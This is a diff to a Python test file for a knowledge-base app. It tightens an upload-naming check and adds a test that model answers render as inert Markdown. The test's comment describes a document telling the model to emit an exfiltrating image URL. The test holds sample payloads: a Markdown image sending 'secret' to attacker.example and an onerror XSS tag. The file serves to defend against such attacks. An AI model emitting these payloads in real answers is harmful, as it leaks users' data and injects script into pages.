@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import re
 import shutil
 from pathlib import Path
 
@@ -114,7 +115,9 @@ def test_kb_page_uploads_several_files_and_names_the_bad_one(demo_kb):
     docs = at.dataframe[1].value
     assert {"新规定.md", "逃逸.txt"} <= set(docs.iloc[:, 0])
     uploads = demo_kb.data_dir / "uploads" / "demo"
-    assert (uploads / "逃逸.txt").exists() and not (demo_kb.data_dir.parent / "逃逸.txt").exists()
+    stored = sorted(p.name for p in uploads.iterdir() if p.is_file())
+    assert len(stored) == 2 and all(re.fullmatch(r"[0-9a-f]{32}\.(md|txt)", n) for n in stored), "stored under generated names"
+    assert not (demo_kb.data_dir.parent / "逃逸.txt").exists()
 
 
 def test_moderation_page_edits_rules_that_apply_at_once(data_dir):
@@ -161,3 +164,19 @@ def test_evaluation_page_shows_a_run_and_compares_two(demo_kb, tmp_path):
     assert any("火星" in e.label for e in at.expander)
     at.text_input(key="eval-b").set_value(str(tmp_path / "b")).run()
     assert list(at.dataframe[0].value.columns) == ["metric", "A", "B", "B − A"]
+
+
+def test_answer_text_cannot_smuggle_images_links_or_html_into_the_page():
+    """A document may tell the model to emit an image whose URL carries data out; rendered answers
+    (and each streamed token) are inert Markdown. Checked with a CommonMark renderer (markdown-it)."""
+    from markdown_it import MarkdownIt
+
+    from app.ui.render import inert
+
+    evil = "住宿600元[1]。![x](https://attacker.example/?q=secret) [点我](https://attacker.example) <img src=x onerror=alert(1)> <https://a.example>"
+    md = MarkdownIt("commonmark")
+    assert "<img" in md.render(evil) and "<a " in md.render(evil), "the payload is live without inert()"
+    safe = md.render(inert(evil))
+    assert "<img" not in safe and "<a " not in safe and "住宿600元[1]。" in safe
+    streamed = md.render("".join(inert(tok) for tok in ["![x", "](https://attacker.example/?q=s)"]))
+    assert "<img" not in streamed
